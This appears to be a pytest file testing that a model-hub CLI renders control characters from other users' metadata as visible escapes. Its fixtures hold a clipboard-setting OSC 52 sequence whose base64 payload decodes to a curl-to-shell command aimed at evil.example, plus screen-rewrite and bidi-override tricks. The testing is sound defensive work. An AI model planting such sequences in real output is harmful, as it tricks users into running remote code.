"""What other users and hubs wrote never drives the terminal (red-team finding 07): control characters
(ESC sequences that set the clipboard or rewrite the screen, carriage returns, bidi overrides) in
metadata, names and a hub's error messages are printed as visible escapes by every CLI command."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from eohub.cli.common import printable
from eohub.cli.main import app
from eohub.repository import open_embedded

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x07"  # sets the clipboard in many terminals


@pytest.mark.parametrize("text", [OSC52, "\r\x1b[2Kdone", "\u202eexe.txt", "\x9b31m", "a\x00b"])
def test_control_characters_are_shown_not_obeyed(text: str):
    shown = printable(text)
    assert not any(c in shown for c in "\x1b\r\x00\x07\u202e\x9b")
    assert printable("line one\n\tline two") == "line one\n\tline two"


def test_metadata_from_another_user_cannot_drive_the_terminal(tmp_path: Path):
    folder = tmp_path / "bob"
    folder.mkdir()
    (folder / "data.bin").write_bytes(b"bob's bytes")
    readme = (  # YAML's \\e and \\a are ESC and BEL: an OSC 52 sequence that sets the clipboard
        '---\nname: Bob-Model\nauthors: ["Bob\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\\a"]\n'
        "license: MIT\nsource: https://x.org\n---\n\rok\n"
    )
    (folder / "README.md").write_text(readme)
    with open_embedded(user="bob") as bob:
        bob.ingest("model", folder)
    runner = CliRunner()
    for args in (["models", "info", "Bob-Model"], ["models", "list"], ["models", "versions", "Bob-Model"]):
        result = runner.invoke(app, args)
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output, args
    assert "\\x1b]52" in runner.invoke(app, ["models", "info", "Bob-Model"]).output
